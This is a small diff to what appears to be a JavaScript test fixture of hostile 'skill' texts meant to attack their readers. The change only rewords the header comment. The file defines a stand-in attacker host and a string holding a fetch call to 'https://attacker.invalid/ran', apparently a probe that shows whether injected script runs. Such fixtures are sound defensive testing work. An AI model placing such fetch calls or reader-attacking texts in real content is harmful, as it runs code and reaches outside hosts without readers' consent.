@@ -1,6 +1,6 @@
 /**
- * Skills that try to do something to whoever looks at them: run, load, submit, hide, reorder, break out, or keep the page from
- * answering. Each is one text; `HOST` stands for an address that nobody may ask. The names say what is tried.
+ * Skills that attack their readers: they run, load, submit, hide, reorder, break out, or keep the page from answering. Each is one
+ * text; `HOST` stands for an address that nobody may request. The names say what is tried.
  */
 const host = 'https://attacker.invalid';
 const call = "fetch('https://attacker.invalid/ran')";
